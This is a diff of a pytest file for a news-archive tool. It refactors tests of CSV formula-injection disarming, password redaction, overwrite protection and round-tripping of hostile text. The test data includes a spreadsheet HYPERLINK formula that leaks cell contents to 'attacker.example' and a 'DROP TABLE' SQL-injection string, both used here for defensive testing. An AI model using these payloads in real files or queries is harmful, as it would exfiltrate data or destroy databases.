@@ -26,14 +26,13 @@ from scrapy.utils.test import get_crawler
 from newsarchive.cli import main
 from newsarchive.cli.errors import CLIError
 from newsarchive.crawl.api import project_settings
-from newsarchive.export import FORMULA_START
 from newsarchive.middlewares.boundary import SITE, SiteBoundaryMiddleware
 from newsarchive.storage import Archive
 from newsarchive.urls import site_origin
-from tests.conftest import FAST, run_cli, run_crawl
+from newsarchive.views.export import FORMULA_START
 from tests.faultserver import FaultServer, page, redirect
+from tests.helpers import FAST, run_cli, run_crawl, story
 from tests.sites import ARTICLE, PAGE, listing_html
-from tests.test_storage import story
 
 PASSWORD = "s3cret-Pa55"
 PG_URL = f"postgresql+psycopg://archivist:{PASSWORD}@127.0.0.1:1/news"
@@ -42,22 +41,18 @@ PG_URL = f"postgresql+psycopg://archivist:{PASSWORD}@127.0.0.1:1/news"
 def export_rows(db: Path, fmt: str) -> str:
     """The export as written, read back without newline translation (a CR must stay a CR)."""
     out = db.with_name(f"export.{fmt}")
-    result = run_cli("export", "--db", str(db), "--format", fmt, "--output", str(out), "--force")
-    assert result.returncode == 0, result.stderr
+    assert main(["export", "--db", str(db), "--format", fmt, "--output", str(out), "--force"]) == 0
     return out.read_bytes().decode("utf-8")
 
 
 @pytest.mark.parametrize("prefix", FORMULA_START)
 def test_csv_export_disarms_every_formula_prefix(db_path: Path, prefix: str) -> None:
     hostile = f'{prefix}HYPERLINK("http://attacker.example/?leak="&A1,"Perú")'
-    archive = Archive.open(str(db_path))
-    try:
-        run = archive.begin_run([])
-        archive.store(
-            run, [story(1, headline=hostile, teaser=hostile, author=hostile, tag=hostile)]
+    with Archive.open(str(db_path)) as archive:
+        archive.write.store(
+            archive.runs.begin([]),
+            [story(1, headline=hostile, teaser=hostile, author=hostile, tag=hostile)],
         )
-    finally:
-        archive.close()
     (row,) = csv.DictReader(io.StringIO(export_rows(db_path, "csv"), newline=""))
     for field in ("headline", "teaser", "author", "tags"):
         assert row[field] == "'" + hostile
@@ -87,18 +82,18 @@ def test_database_password_never_shown(command: list[str], url: str) -> None:
         assert line.startswith("newsarchive: error: ")
 
 
-def test_output_is_never_overwritten_without_force(db_path: Path, tmp_path: Path) -> None:
+def test_output_is_never_overwritten_without_force(db_path: Path, tmp_path: Path, cli) -> None:
     Archive.open(str(db_path)).close()
     target = tmp_path / "stories.csv"
     target.write_text("precious notes\n", encoding="utf-8")
-    refused = run_cli("export", "--db", str(db_path), "--format", "csv", "--output", str(target))
+    refused = cli("export", "--db", db_path, "--format", "csv", "--output", target)
     assert refused.returncode == CLIError.OUTPUT
     assert (
         refused.stderr.strip() == f"newsarchive: error: {target} exists (use --force to overwrite)"
     )
     assert target.read_text(encoding="utf-8") == "precious notes\n"
     assert sorted(path.name for path in tmp_path.iterdir()) == ["archive.sqlite", "stories.csv"]
-    forced = run_cli("export", "--db", str(db_path), "--format", "csv", "--output", str(target), "--force")  # fmt: skip
+    forced = cli("export", "--db", db_path, "--format", "csv", "--output", target, "--force")
     assert forced.returncode == 0
     assert target.read_text(encoding="utf-8").startswith("url,headline,")
 
@@ -108,12 +103,9 @@ NASTY = "Robert'); DROP TABLE stories;-- \"Perú\" 'Bolivia' \\ 100% _x_ <b>&amp
 
 def test_hostile_text_round_trips_exactly_in_storage_and_exports(db_path: Path) -> None:
     text = NASTY + " \x00\x07\x1b[31m\x7f end"
-    archive = Archive.open(str(db_path))
-    try:
-        archive.store(archive.begin_run([]), [story(1, headline=text, teaser=text)])
-        assert next(archive.iter_stories())["headline"] == text
-    finally:
-        archive.close()
+    with Archive.open(str(db_path)) as archive:
+        archive.write.store(archive.runs.begin([]), [story(1, headline=text, teaser=text)])
+        assert next(archive.read.iter_stories())["headline"] == text
     with sqlite3.connect(db_path) as conn:
         assert {name for (name,) in conn.execute("SELECT name FROM sqlite_master")} >= {"stories"}
     (record,) = (json.loads(line) for line in export_rows(db_path, "jsonl").splitlines())
